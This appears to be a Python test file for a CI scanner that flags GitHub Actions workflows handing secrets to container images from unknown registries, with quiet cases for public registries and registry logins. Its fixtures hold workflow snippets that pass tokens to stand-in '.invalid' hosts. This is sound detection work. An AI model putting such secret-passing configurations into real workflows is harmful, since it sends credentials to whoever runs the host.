"""A workflow's container from a registry nobody knows, handed the workflow's secrets: a step's
``uses: docker://host/image`` given them in ``env`` or ``with`` (inputs reach the container as
``INPUT_*`` variables), a job's ``container``/``services`` image given them in ``env``. Whoever runs
that host serves the image, so the secrets go to them. Public registries, no secrets, and the
registry's own login (``credentials``) stay quiet. Hosts are ``.invalid``."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors, scan_findings

_HEAD = "name: ci\non: [push]\njobs:\n  build:\n    runs-on: ubuntu-latest\n"


def test_a_docker_step_from_an_unknown_host_given_a_token_as_an_input(tmp_path: Path) -> None:
    workflow = _HEAD + (
        "    steps:\n      - uses: actions/checkout@v4\n"
        "      - uses: docker://cr.helm-tools.invalid/chart-publish@sha256:" + "a" * 64 + "\n"
        "        with:\n          chart: ./chart\n          token: ${{ secrets.DEPLOY_TOKEN }}\n"
    )
    findings = scan_findings(tmp_path, {".github/workflows/publish.yml": workflow})
    (error,) = [f for f in findings if f.severity.value == "error"]
    assert error.rule == "CREDENTIAL_EXFILTRATION"
    assert "secrets.DEPLOY_TOKEN" in error.message and "publish.yml:11" in error.message
    assert "publish.yml:8" in error.message


def test_a_job_container_and_service_from_an_unknown_host_given_secrets(tmp_path: Path) -> None:
    workflow = _HEAD + (
        "    container:\n      image: mirror.node-images.invalid/node:lts\n"
        "      env:\n        NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n"
        "    steps:\n      - run: npm ci && npm test\n"
    )
    services = "name: ci\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n" + (
        "    services:\n      db:\n        image: images.pg-mirror.invalid/postgres:16\n"
        "        env:\n          GH: ${{ github.token }}\n"
        "    steps:\n      - run: make test\n"
    )
    errors = scan_errors(tmp_path, {"templates/ci.yml": workflow, "assets/test.yml": services})
    assert ("CREDENTIAL_EXFILTRATION", "templates/ci.yml", 7) in errors
    assert any(rule == "CREDENTIAL_EXFILTRATION" and rel == "assets/test.yml" for rule, rel, _ in errors)


def test_known_registries_no_secrets_and_registry_logins_stay_quiet(tmp_path: Path) -> None:
    workflow = _HEAD + (
        "    container:\n      image: cr.corp-builds.invalid/builder:3\n"
        "      credentials:\n        username: ci\n        password: ${{ secrets.REGISTRY_PASSWORD }}\n"
        "    steps:\n      - uses: docker://ghcr.io/octo-org/release-notes:1.4\n"
        "        with:\n          token: ${{ secrets.GITHUB_TOKEN }}\n"
        "      - uses: docker://tools.lint-mirror.invalid/yamllint:1.35\n        with:\n          path: .\n"
    )
    assert scan_errors(tmp_path, {".github/workflows/ci.yml": workflow}) == set()
